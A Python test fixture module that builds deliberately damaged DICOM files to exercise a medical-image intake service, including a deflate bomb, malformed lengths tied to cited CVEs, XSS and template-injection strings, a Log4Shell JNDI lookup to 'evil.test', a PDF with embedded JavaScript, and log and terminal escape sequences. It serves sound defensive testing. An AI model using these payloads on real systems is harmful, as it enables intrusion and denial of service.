"""B42 to B61: DICOM files, most of them written by pydicom and then damaged."""

import struct
from typing import Any

import numpy as np

from tests.app_service.intake.dicom_maker import made
from tests.bad_input.zeros import Packed, deflated_zeros

RAMP = np.arange(64 * 64, dtype=np.uint16).reshape(64, 64)
UNKNOWN_SEQUENCE, MODALITY_LUT = b"\x08\0\x15\x11", b"\x28\0\0\x30"  # one that is never read, and one that is
EXPLICIT = b"1.2.840.10008.1.2.1\0"
COMMENTS, CLASS = b"\x10\0\0\x40", b"\x08\0\x16\0UI"
SAMPLES = b"\x28\0\x02\0US"  # where a lower tag can be put in
SCRIPTS = ("<img src=x onerror=alert(1)>", "{{7*7}}", "${jndi:ldap://evil.test/a}", '"><svg/onload=alert(1)>')
ESCAPES = 'Canary\r\n{"level": "CRITICAL"}\x1b[2J\u202egnp.dne'


def element(tag: bytes, vr: bytes, value: bytes) -> bytes:
    """Explicit little endian, with a length of four bytes."""
    return tag + vr + b"\0\0" + struct.pack("<I", len(value)) + value


def beside(more: bytes, at: bytes = SAMPLES, **elements: Any) -> bytes:
    """A good file with elements put in before `at`."""
    whole = made(RAMP, **elements)
    place = whole.index(at)
    return whole[:place] + more + whole[place:]


def nested(depth: int, tag: bytes) -> bytes:
    """Sequences in one another, each with its length."""
    inner = b""
    for _ in range(depth):
        inner = element(tag, b"SQ", b"\xfe\xff\0\xe0" + struct.pack("<I", len(inner)) + inner)
    return beside(inner, SAMPLES if tag == UNKNOWN_SEQUENCE else b"\xe0\x7f\x10\0OW")


def nested_open(depth: int) -> bytes:
    """The same without lengths."""
    start = UNKNOWN_SEQUENCE + b"SQ\0\0\xff\xff\xff\xff" + b"\xfe\xff\0\xe0\xff\xff\xff\xff"
    end = b"\xfe\xff\x0d\xe0\0\0\0\0" + b"\xfe\xff\xdd\xe0\0\0\0\0"
    return beside(start * depth + end * depth)


def syntax(uid: str) -> bytes:
    """A good file under another transfer syntax, with the length of its meta information made right."""
    whole = made(RAMP)
    coded = uid.encode() + b"\0" * (len(uid) % 2)
    at = whole.index(EXPLICIT)
    (length,) = struct.unpack("<I", whole[140:144])
    meta = struct.pack("<I", length + len(coded) - len(EXPLICIT)) + whole[144 : at - 2]
    return whole[:140] + meta + struct.pack("<H", len(coded)) + coded + whole[at + len(EXPLICIT) :]


def deflated_bomb() -> bytes:
    """1.5 GB of zeros behind the header of a deflated file."""
    whole = syntax("1.2.840.10008.1.2.1.99")
    start = whole.index(b"\x08\0")
    return whole[:start] + deflated_zeros(1_500_000_000, Packed.RAW, whole[start:])


def rows_as_long() -> bytes:
    """Rows with four bytes where two are meant (CVE-2026-5442): 65536 times as many for who reads them so."""
    whole = made(RAMP)
    at = whole.index(b"\x28\0\x10\0US")
    return whole[:at] + b"\x28\0\x10\0UL\x04\0" + struct.pack("<I", 64 * 65536 + 64) + whole[at + 10 :]


def palette(entries: int, indexes: int = 0) -> bytes:
    """A palette that says 256 entries and has `entries`; pixels name the entry `indexes`."""
    table = np.zeros(entries, "<u2").tobytes()
    pixels = np.full((64, 64), indexes, np.uint8)
    colours = {}
    for colour in ("Red", "Green", "Blue"):
        colours[f"{colour}PaletteColorLookupTableDescriptor"] = [256, 0, 16]
        colours[f"{colour}PaletteColorLookupTableData"] = table
    return made(pixels, PhotometricInterpretation="PALETTE COLOR", **colours)


def junk(uid: str) -> bytes:
    """An encapsulated picture of nothing but noise, under a syntax that is read here."""
    noise = np.random.default_rng(5).integers(0, 256, 4096, np.uint8).tobytes()
    item = b"\xfe\xff\0\xe0\0\0\0\0" + b"\xfe\xff\0\xe0" + struct.pack("<I", len(noise)) + noise
    end = b"\xfe\xff\xdd\xe0\0\0\0\0"
    whole = syntax(uid)
    at = whole.index(b"\xe0\x7f\x10\0OW")
    return whole[:at] + b"\xe0\x7f\x10\0OB\0\0\xff\xff\xff\xff" + item + end


def meta_length(more: int) -> bytes:
    """The meta information says that it is longer or shorter than it is (CVE-2026-5437)."""
    whole = made(RAMP)
    (length,) = struct.unpack("<I", whole[140:144])
    return whole[:140] + struct.pack("<I", max(0, length + more)) + whole[144:]


def without_meta() -> bytes:
    whole = made(RAMP)
    return whole[:132] + whole[whole.index(b"\x08\0\x16\0UI") :]


def without_magic() -> bytes:
    whole = made(RAMP)
    return whole[:128] + b"DICX" + whole[132:]


def pixel_length(length: int) -> bytes:
    whole = made(RAMP)
    at = whole.index(b"\xe0\x7f\x10\0OW") + 8
    return whole[:at] + struct.pack("<I", length) + whole[at + 4 :]


def without_pixels() -> bytes:
    whole = made(RAMP)
    return whole[: whole.index(b"\xe0\x7f\x10\0OW")]


def of_class(number: str, **elements: Any) -> bytes:
    return made(RAMP, SOPClassUID=f"1.2.840.10008.5.1.4.1.1.{number}", **elements)


def with_document() -> bytes:
    return of_class("104.1", EncapsulatedDocument=b"%PDF-1.4 /OpenAction << /S /JavaScript /JS (app.alert(1)) >>")


def scripts() -> bytes:
    name, patient, study, comments = SCRIPTS
    return made(RAMP, PatientName=name, PatientID=patient, StudyDescription=study, PatientComments=comments)


def escapes() -> bytes:
    return made(RAMP, PatientComments=ESCAPES, StudyDescription="Canary\0Canary", SpecificCharacterSet="ISO_IR 192")


def long_text() -> bytes:
    return beside(element(COMMENTS, b"UT", b"Canary " * 1_500_000))


def character_set(name: str, value: bytes) -> bytes:
    """A name of a person in bytes that the character set cannot hold."""
    coded = name.encode() + b" " * (len(name) % 2)
    whole = beside(b"\x08\0\x05\0CS" + struct.pack("<H", len(coded)) + coded, CLASS)
    at = whole.index(b"Canary^Marigold")
    return whole[:at] + value.ljust(len("Canary^Marigold"))[:15] + whole[at + 15 :]


def identified(uid: str) -> bytes:
    """Under an object name that is none; pydicom would not write it."""
    good = "1.2.826.0.1.3680043.8.498.99999999999999999999999999"
    whole = made(RAMP, SOPInstanceUID=good, StudyInstanceUID=good, SeriesInstanceUID=good)
    return whole.replace(good.encode(), uid.encode().ljust(len(good), b"\0")[: len(good)])


def twin(seed: int) -> bytes:
    """The same object name with other pixels."""
    return made(np.random.default_rng(seed).integers(0, 4096, (64, 64), np.uint16), SOPInstanceUID="1.2.3.4.5.6.7.8")


def with_program(head: bytes) -> bytes:
    return head.ljust(128, b"\x90") + made(RAMP)[128:]


def burned_in() -> bytes:
    return made(RAMP, BurnedInAnnotation="YES")


def changed(**elements: Any) -> bytes:
    return made(RAMP, **elements)


def slope_nan() -> bytes:
    """Written over a number of the same length: pydicom would not write it."""
    return made(RAMP, RescaleSlope="1.25", RescaleIntercept=0).replace(b"1.25", b"NaN ")
